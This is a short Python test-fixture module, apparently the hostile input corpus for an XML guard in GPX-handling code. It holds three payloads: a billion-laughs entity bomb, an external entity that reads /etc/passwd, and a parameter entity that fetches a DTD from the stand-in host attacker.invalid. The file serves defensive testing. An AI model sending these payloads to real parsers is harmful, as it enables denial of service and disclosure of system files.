"""Hostile XML: an entity bomb and external entities (the XML guard's tests, the hostile
corpus)."""

from __future__ import annotations

# Ten levels of ten: fully expanded this would be 10**10 "lol"s (30 GB).
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE gpx [\n <!ENTITY lol0 "lol">\n'
    + b"".join(
        f' <!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">\n'.encode() for level in range(1, 10)
    )
    + b"]>\n<gpx><trk><name>&lol9;</name></trk></gpx>"
)


XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE gpx [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>\n'
    b"<gpx><trk><name>&secret;</name></trk></gpx>"
)


XXE_PARAMETER = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE gpx [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>\n'
    b"<gpx/>"
)
